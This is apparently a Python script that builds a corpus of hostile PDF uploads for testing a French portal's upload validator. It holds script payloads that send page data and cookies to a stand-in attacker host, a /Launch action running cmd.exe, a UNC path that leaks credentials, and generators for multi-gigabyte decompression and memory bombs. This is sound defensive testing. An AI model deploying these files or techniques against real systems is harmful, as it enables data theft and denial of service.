"""Regenerate the hostile-upload corpus in this directory, byte for byte.

    .venv/bin/python -m tests.hostile.build          # rewrite the files
    .venv/bin/python -m tests.hostile.build --check  # exit 1 if a file differs

Only the standard library, pypdf and hiveo.demo.pdfgen are used, and nothing random
or dated goes in, so the output depends only on the versions of zlib (see
BUILT_WITH_ZLIB; update it when you rebuild with another) and pypdf (the
encrypted file). `CORPUS` is also what the tests iterate over: each entry
names a file, what it attacks and the French refusal the portal must give.
README.md in this directory lists the same entries.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, ByteStringObject

from hiveo.demo.pdfgen import make_pdf

HERE = Path(__file__).resolve().parent
# The zlib the committed files were built with: another one compresses differently.
BUILT_WITH_ZLIB = "1.2.13"

# The refusals, as the uploader reads them.
NOT_A_PDF = "Ce fichier n'est pas un PDF : son contenu n'en est pas un, quel que soit son nom."
EMPTY = "Le fichier est vide."
ENCRYPTED = "Ce PDF est protégé (chiffré) : déposez une version sans mot de passe."
ACTIVE = ("Ce PDF contient du contenu actif (JavaScript, pièce jointe ou action) : "
          "déposez une version imprimée en PDF simple.")
UNREADABLE = "Ce PDF est illisible ou endommagé."
TOO_COMPLEX = "Ce PDF est trop complexe pour être vérifié : il a été refusé."

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
MIB = 1024 * 1024


# ---------------------------------------------------------------- PDF writers


def classic_pdf(objects: list[bytes], *, root: int = 1, startxref: int | None = None) -> bytes:
    """A PDF with a cross-reference table; objects are numbered from 1."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, root, xref if startxref is None else startxref))
    return out.getvalue()


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def object_stream(packed: dict[int, bytes], *, data: bytes | None = None,
                  filters: bytes = b"/FlateDecode") -> bytes:
    """An object stream holding `packed`; `data` replaces its (already encoded) data."""
    header, bodies = [], b""
    for number, body in sorted(packed.items()):
        header.append(b"%d %d" % (number, len(bodies)))
        bodies += body + b"\n"
    index = b" ".join(header) + b"\n"
    if data is None:
        data = zlib.compress(index + bodies, 9)
    return (b"<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\nstream\n"
            % (len(packed), len(index), filters, len(data)) + data + b"\nendstream")


def xref_stream_pdf(objects: dict[int, bytes], compressed: dict[int, tuple[int, int]], *,
                    root: int = 1) -> bytes:
    """A PDF 1.5 with a cross-reference stream (which takes the next free number).

    `objects` are written in the file; `compressed` maps the number of an
    object kept in an object stream to (that stream's number, its index there).
    """
    xref_number = max([*objects, *compressed]) + 1
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    offsets[xref_number] = out.tell()
    rows = []
    for number in range(xref_number + 1):
        if number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        elif number in compressed:
            rows.append(struct.pack(">BIH", 2, *compressed[number]))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 65535))
    table = zlib.compress(b"".join(rows), 9)
    out.write(b"%d 0 obj\n" % xref_number)
    out.write(b"<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Filter /FlateDecode "
              b"/Length %d >>\nstream\n" % (xref_number + 1, root, len(table)))
    out.write(table + b"\nendstream\nendobj\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number])
    return out.getvalue()


def packed_pdf(plain: dict[int, bytes], packed: dict[int, bytes], **stream_options) -> bytes:
    """`plain` objects in the file, `packed` ones in one object stream (the next number)."""
    container = max([*plain, *packed]) + 1
    compressed = {number: (container, i) for i, number in enumerate(sorted(packed))}
    objects = {**plain, container: object_stream(packed, **stream_options)}
    return xref_stream_pdf(objects, compressed)


def zeros_bomb(prefix: bytes, zero_mib: int) -> bytes:
    """A zlib stream that inflates to `prefix` and `zero_mib` MiB of zero bytes.

    Compressing gigabytes would take a minute; after a full flush the
    compressor starts afresh, so every further MiB of zeros compresses to the
    same bytes, which are repeated. The Adler-32 of the whole is computed: zero
    bytes leave its first sum unchanged and add that sum to the second.
    """
    zeros = bytes(MIB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, 15, 9, zlib.Z_RLE)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert block == again, "zlib no longer repeats itself after a full flush"
    last_block = compressor.flush()[:-4]
    checksum = zlib.adler32(prefix)
    low, high = checksum & 0xFFFF, checksum >> 16
    high = (high + zero_mib * MIB * low) % 65521
    return head + block * zero_mib + last_block + struct.pack(">I", (high << 16) | low)


def double_flate(prefix: bytes, zero_mib: int) -> bytes:
    """Flate over Flate: a few kilobytes for gigabytes."""
    return zlib.compress(zeros_bomb(prefix, zero_mib), 9)


# ------------------------------------------------------------------- not PDFs


def png_renamed() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))

    width = height = 8
    rows = b"".join(b"\x00" + b"".join(bytes([30 * x, 30 * y, 160]) for x in range(width))
                    for y in range(height))
    return (b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b""))


def html_script() -> bytes:
    return (b"<!DOCTYPE html>\n<html lang=\"fr\"><head><meta charset=\"utf-8\">"
            b"<title>Attestation URSSAF</title></head>\n<body><h1>Attestation</h1>\n"
            b"<script>fetch('/organisations').then(r => r.text())"
            b".then(t => navigator.sendBeacon('https://attacker.invalid/', t));</script>\n"
            b"</body></html>\n")


def svg_script() -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n'
            b'<svg xmlns="http://www.w3.org/2000/svg" width="595" height="842" '
            b'onload="alert(document.domain)">\n'
            b"<script>document.location = 'https://attacker.invalid/?c=' + document.cookie;"
            b"</script>\n<text x=\"40\" y=\"60\">Attestation</text>\n</svg>\n")


def docx_renamed() -> bytes:
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
        ),
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
            'main"><w:body><w:p><w:r><w:t>Attestation</w:t></w:r></w:p></w:body></w:document>'
        ),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in parts.items():
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, text)
    return out.getvalue()


def html_polyglot() -> bytes:
    """HTML first, a real PDF after: a browser sniffing the start runs the script."""
    return (b"<html><body><script>alert(document.cookie)</script><!--\n"
            + make_pdf("Attestation", ["Un PDF cache derriere du HTML."]) + b"-->\n")


def empty() -> bytes:
    return b""


# ------------------------------------------------------------- active content


def javascript_openaction() -> bytes:
    return classic_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hiveo'\\);) >>",
    ])


def javascript_in_object_stream() -> bytes:
    """The document-level script is compressed: no "/JavaScript" in the raw bytes."""
    return packed_pdf({}, {
        1: b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
        2: PAGES,
        3: PAGE,
        4: b"<< /Names [(init) 5 0 R] >>",
        5: b"<< /Type /Action /S /JavaScript /JS (this.exportDataObject\\({}\\);) >>",
    })


def launch_action() -> bytes:
    return classic_pdf([
        CATALOG,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
        b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>",
    ])


def gotor_unc_path() -> bytes:
    """Opening a "remote" PDF on a UNC path leaks the reader's Windows credentials."""
    return classic_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /Type /Action /S /GoToR /F (\\\\\\\\attacker.invalid\\\\share\\\\a.pdf) "
        b"/D [0 /Fit] >>",
    ])


def embedded_file() -> bytes:
    payload = b"MZ\x90\x00 not really a program"
    return classic_pdf([
        b"<< /Type /Catalog /Pages 2 0 R "
        b"/Names << /EmbeddedFiles << /Names [(facture.exe) 4 0 R] >> >> >>",
        PAGES,
        PAGE,
        b"<< /Type /Filespec /F (facture.exe) /EF << /F 5 0 R >> >>",
        stream(payload, b" /Type /EmbeddedFile"),
    ])


def file_attachment_annotation() -> bytes:
    """An attachment hung on a page, not listed in /EmbeddedFiles."""
    return classic_pdf([
        CATALOG,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [40 700 60 720] /FS 5 0 R >>",
        b"<< /Type /Filespec /F (releve.xlsm) /EF << /F 6 0 R >> >>",
        stream(b"PK\x03\x04 macros", b" /Type /EmbeddedFile"),
    ])


def xfa_form() -> bytes:
    xfa = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
           b'<event activity="initialize"><script contentType="application/x-javascript">'
           b"xfa.host.messageBox('hiveo')</script></event></subform></template></xdp:xdp>")
    return classic_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
        PAGES,
        PAGE,
        stream(xfa),
    ])


# ------------------------------------------------------------------ encrypted


def encrypted_rc4() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    first_id = ByteStringObject(b"hiveo-hostile-01")
    writer._ID = ArrayObject([first_id, first_id])
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    # encrypt() draws a random second identifier; the key only depends on the first.
    writer._ID = ArrayObject([first_id, first_id])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_aes256_dictionary() -> bytes:
    """An AES-256 (revision 6) security handler: a reader tries the empty password.

    The standard library has no AES, so the keys are zeros: the file is refused
    as encrypted before anything is decrypted, with or without the cryptography
    package installed.
    """
    encrypt = (b"<< /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <%s> /U <%s> "
               b"/OE <%s> /UE <%s> /Perms <%s> >>"
               % (b"00" * 48, b"00" * 48, b"00" * 32, b"00" * 32, b"00" * 16))
    data = classic_pdf([CATALOG, PAGES, PAGE, encrypt])
    identifier = b"<686976656f2d686f7374696c652d3032>"
    return data.replace(b"/Root 1 0 R >>", b"/Root 1 0 R /Encrypt 4 0 R /ID [%s %s] >>"
                        % (identifier, identifier))


# -------------------------------------------------------------------- broken


def truncated() -> bytes:
    data = make_pdf("Attestation de vigilance", ["Ce fichier a ete coupe en deux."])
    return data[: len(data) // 2]


def xref_points_nowhere() -> bytes:
    return classic_pdf([CATALOG, PAGES, PAGE], startxref=987654)


def declared_100000_pages() -> bytes:
    return classic_pdf([
        CATALOG,
        b"<< /Type /Pages /Kids [3 0 R] /Count 100000 >>",
        PAGE,
    ])


# ------------------------------------------------------ bombs and parser traps


def pages_tree_cycle() -> bytes:
    return classic_pdf([
        CATALOG,
        b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
        PAGE,
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
    ])


def object_stream_self_reference() -> bytes:
    """The cross-reference stream says object 4 is stored inside object 4."""
    return xref_stream_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R /Hostile 4 0 R >>", 2: PAGES, 3: PAGE},
        {4: (4, 0)},
    )


def length_2_pow_40() -> bytes:
    return classic_pdf([
        CATALOG,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length 1099511627776 >>\nstream\nBT ET\nendstream",
    ])


def deep_nesting_arrays() -> bytes:
    """100,000 nested arrays, compressed to a few hundred bytes in an object stream."""
    depth = 100_000
    return packed_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R /Hostile 4 0 R >>", 2: PAGES, 3: PAGE},
        {4: b"[" * depth + b"]" * depth},
    )


def deep_nesting_dictionaries() -> bytes:
    depth = 10_000
    return classic_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Hostile 4 0 R >>",
        PAGES,
        PAGE,
        b"<</A " * depth + b"0" + b">>" * depth,
    ])


def flate_bomb_content() -> bytes:
    """A page whose content stream inflates to 4 GiB (of spaces for PDF: zero bytes)."""
    data = double_flate(b"", 4096)
    return classic_pdf([
        CATALOG,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        stream(data, b" /Filter [/FlateDecode /FlateDecode]"),
    ])


def flate_bomb_object_stream() -> bytes:
    """An object stream that inflates to 4 GiB: resolving any object in it inflates it."""
    data = double_flate(b"4 0\n", 4096)
    return packed_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R /Hostile 4 0 R >>", 2: PAGES, 3: PAGE},
        {4: b"0"},
        data=data,
        filters=b"[/FlateDecode /FlateDecode]",
    )


def memory_bomb_object_streams() -> bytes:
    """100 object streams of 15 MiB each: pypdf keeps each one it inflates (1.5 GiB).

    Every stream stays under the per-stream limits; only the child's memory
    limit stops the whole.
    """
    count, first = 100, 4
    refs = b" ".join(b"%d 0 R" % (first + i) for i in range(count))
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R /Hostile [" + refs + b"] >>", 2: PAGES,
               3: PAGE}
    compressed = {}
    for i in range(count):
        number, container = first + i, first + count + i
        data = double_flate(b"%d 0\n0 " % number, 15)
        objects[container] = object_stream({number: b"0"}, data=data,
                                           filters=b"[/FlateDecode /FlateDecode]")
        compressed[number] = (container, 0)
    return xref_stream_pdf(objects, compressed)


def damaged_flate_streams() -> bytes:
    """60 content streams whose inner Flate layer is damaged.

    pypdf retries a damaged stream byte by byte (about half a second for these
    256 KiB): half a minute in all if it were let, which strict checking refuses
    at the first stream.
    """
    count, first = 60, 4
    garbage = zlib.compress(b"\xff" * (256 * 1024), 9)
    refs = b" ".join(b"%d 0 R" % (first + i) for i in range(count))
    objects = [
        CATALOG,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [" + refs + b"] >>",
    ]
    objects += [stream(garbage, b" /Filter [/FlateDecode /FlateDecode]")] * count
    return classic_pdf(objects)


def wide_object_graph() -> bytes:
    """Half a million array elements for the active-content walk, in a few kilobytes."""
    rows = {number: b"[" + b"0 " * 50_000 + b"]" for number in range(5, 15)}
    refs = b" ".join(b"%d 0 R" % number for number in rows)
    return packed_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R /Hostile 4 0 R >>", 2: PAGES, 3: PAGE},
        {4: b"[" + refs + b"]", **rows},
    )


# --------------------------------------------------------------------- corpus


@dataclass(frozen=True)
class Hostile:
    name: str
    build: Callable[[], bytes]
    attack: str
    refusal: str
    # Parser traps and bombs: refused within the check's time limit.
    bomb: bool = False
    # False: stopped only by the child's limits (in-process it would take
    # gigabytes or minutes), so never given to inspect_pdf directly.
    in_process: bool = True


CORPUS = [
    Hostile("png-renamed.pdf", png_renamed, "a PNG image renamed .pdf", NOT_A_PDF),
    Hostile("html-script.pdf", html_script,
            "an HTML page with a script, named .pdf (stored XSS if served inline)", NOT_A_PDF),
    Hostile("svg-script.pdf", svg_script, "an SVG image with <script> and onload", NOT_A_PDF),
    Hostile("docx-renamed.pdf", docx_renamed, "a ZIP (Word .docx) renamed .pdf", NOT_A_PDF),
    Hostile("html-polyglot.pdf", html_polyglot,
            "HTML with a script, then a real PDF (a polyglot: header not at byte 0)",
            NOT_A_PDF),
    Hostile("empty.pdf", empty, "zero bytes", EMPTY),
    Hostile("javascript-openaction.pdf", javascript_openaction,
            "JavaScript run when the document opens (/OpenAction)", ACTIVE),
    Hostile("javascript-in-object-stream.pdf", javascript_in_object_stream,
            "document-level JavaScript (/Names /JavaScript) hidden in a compressed "
            "object stream", ACTIVE),
    Hostile("launch-action.pdf", launch_action,
            "a /Launch action (runs cmd.exe) when the page opens", ACTIVE),
    Hostile("gotor-unc-path.pdf", gotor_unc_path,
            "a /GoToR action to a UNC path (leaks Windows credentials)", ACTIVE),
    Hostile("embedded-file.pdf", embedded_file,
            "an executable attached through /EmbeddedFiles", ACTIVE),
    Hostile("file-attachment-annotation.pdf", file_attachment_annotation,
            "a file attached to a page annotation (/FileAttachment, /EF)", ACTIVE),
    Hostile("xfa-form.pdf", xfa_form, "an XFA form with a script", ACTIVE),
    Hostile("encrypted-rc4.pdf", encrypted_rc4,
            "an encrypted PDF (RC4-128, user password)", ENCRYPTED),
    Hostile("encrypted-aes256-dictionary.pdf", encrypted_aes256_dictionary,
            "an AES-256 security handler (revision 6), which needs another package to try",
            ENCRYPTED),
    Hostile("truncated.pdf", truncated, "a valid PDF cut in half", UNREADABLE),
    Hostile("xref-points-nowhere.pdf", xref_points_nowhere,
            "startxref points past the end of the file", UNREADABLE),
    Hostile("declared-100000-pages.pdf", declared_100000_pages,
            "a page tree declaring 100,000 pages (/Count) for one page", UNREADABLE),
    Hostile("pages-tree-cycle.pdf", pages_tree_cycle,
            "a /Pages tree whose node is its own grandchild", UNREADABLE, bomb=True),
    Hostile("object-stream-self-reference.pdf", object_stream_self_reference,
            "an object listed as stored inside itself (object-stream loop)", UNREADABLE,
            bomb=True),
    Hostile("length-2-pow-40.pdf", length_2_pow_40,
            "a stream declaring a /Length of 2**40 bytes", TOO_COMPLEX, bomb=True),
    Hostile("deep-nesting-arrays.pdf", deep_nesting_arrays,
            "100,000 nested arrays in a compressed object stream", TOO_COMPLEX, bomb=True),
    Hostile("deep-nesting-dictionaries.pdf", deep_nesting_dictionaries,
            "10,000 nested dictionaries", TOO_COMPLEX, bomb=True),
    Hostile("flate-bomb-content.pdf", flate_bomb_content,
            "a page content stream (Flate over Flate) inflating to 4 GiB", TOO_COMPLEX,
            bomb=True),
    Hostile("flate-bomb-object-stream.pdf", flate_bomb_object_stream,
            "an object stream (Flate over Flate) inflating to 4 GiB", TOO_COMPLEX, bomb=True),
    Hostile("wide-object-graph.pdf", wide_object_graph,
            "500,000 array elements, compressed, for the active-content walk", TOO_COMPLEX,
            bomb=True),
    Hostile("memory-bomb-object-streams.pdf", memory_bomb_object_streams,
            "100 object streams of 15 MiB each, kept in memory once inflated (1.5 GiB)",
            TOO_COMPLEX, bomb=True, in_process=False),
    Hostile("damaged-flate-streams.pdf", damaged_flate_streams,
            "60 damaged Flate streams, each of which pypdf would retry byte by byte "
            "(half a minute of CPU)", UNREADABLE, bomb=True),
]


def main(argv: list[str]) -> int:
    check = argv == ["--check"]
    if argv and not check:
        print(__doc__)
        return 2
    differing = []
    for item in CORPUS:
        data = item.build()
        target = HERE / item.name
        if check:
            if not target.is_file() or target.read_bytes() != data:
                differing.append(item.name)
        else:
            target.write_bytes(data)
            print(f"{item.name}: {len(data)} bytes")
    if differing:
        print("differs from the build:", ", ".join(differing))
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
